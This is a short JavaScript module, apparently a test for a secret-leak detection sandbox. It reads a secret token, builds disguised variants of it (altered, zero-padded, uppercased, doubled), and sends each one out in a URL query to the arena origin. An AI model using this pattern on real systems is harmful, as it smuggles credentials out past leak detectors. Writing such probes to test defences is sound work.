export default async ({ arena }, host) => {
  const secret = await host.secrets.get('TOKEN');
  const guesses = [
    secret.replace(/.$/, '0'),
    `${secret.slice(0, -32)}${'0'.repeat(32)}`,
    secret.toUpperCase(),
    `${secret}${secret}`,
  ];
  for (const guess of guesses) await host.net.request({ url: `${arena.origin}/?q=${guess}` }).catch(() => {});
  return {};
};
